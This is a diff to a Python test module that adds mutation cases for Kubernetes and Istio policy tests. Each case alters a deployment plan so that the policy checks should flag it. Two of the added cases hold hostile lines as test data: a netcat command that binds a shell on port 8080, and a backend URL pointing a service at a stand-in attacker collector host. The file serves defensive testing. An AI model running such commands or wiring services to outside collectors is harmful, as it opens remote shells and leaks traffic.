@@ -4,7 +4,7 @@ from collections.abc import Callable
 from typing import Any
 
 from tests.policies.mutations.mutation import Family, Table
-from tests.policies.mutations.plan import MARKER, Plan, manifest, pod_spec
+from tests.policies.mutations.plan import MARKER, Plan, manifest, namespace, pod_spec
 
 TABLE = Table(Family.WORKLOADS)
 
@@ -209,3 +209,56 @@ def key_in_a_chart(plan: Plan) -> bool:
     assert release is not None
     plan.edit(release)["values"]["global"]["proxy"]["resources"] = {"x": KEY}
     return True
+
+
+def _stand_in(plan: Plan) -> dict[str, Any] | None:
+    """Return the container of a service for which the topology names no image."""
+    apps = plan.app_namespaces()
+    workload = plan.first("Deployment", where=lambda i: namespace(i) in apps and "stefanprodan/podinfo" in str(i["spec"]["template"]))
+    return pod_spec(plan.edit(workload))["containers"][0] if workload else None
+
+
+@TABLE.mutation("K13", "the stand-in of a service runs something else")
+def command_of_a_stand_in(plan: Plan) -> bool:
+    if (container := _stand_in(plan)) is None:
+        return False
+    container["command"] = ["sh", "-c", "nc -l -p 8080 -e sh"]
+    return True
+
+
+@TABLE.mutation("K13", "the stand-in of a service sends its requests on")
+def stand_in_with_a_backend(plan: Plan) -> bool:
+    if (container := _stand_in(plan)) is None:
+        return False
+    container["command"] = [*container["command"], "--backend-url=http://collector.attacker.example"]
+    return True
+
+
+@TABLE.mutation("P07", "a probe runs a command in a service's pod")
+def probe_runs_a_command(plan: Plan) -> bool:
+    _container(plan)["readinessProbe"] = {"exec": {"command": ["sh", "-c", "true"]}}
+    return True
+
+
+@TABLE.mutation("P04", "a service has no instances")
+def no_instances(plan: Plan) -> bool:
+    workload = plan.app("Deployment")
+    assert workload is not None
+    plan.edit(workload)["spec"]["replicas"] = 0
+    return True
+
+
+@TABLE.mutation("P07", "a Service is shown to whomever an annotation says")
+def service_exported_by_annotation(plan: Plan) -> bool:
+    service = plan.app("Service")
+    assert service is not None
+    plan.edit(service)["metadata"].setdefault("annotations", {})["networking.istio.io/exportTo"] = "*"
+    return True
+
+
+@TABLE.mutation("P04", "nobody is named who writes the logs of the proxies")
+def log_without_provider(plan: Plan) -> bool:
+    found = list(plan.records("Telemetry"))
+    for each in found:
+        plan.edit(each)["spec"]["accessLogging"] = [{}]
+    return bool(found)
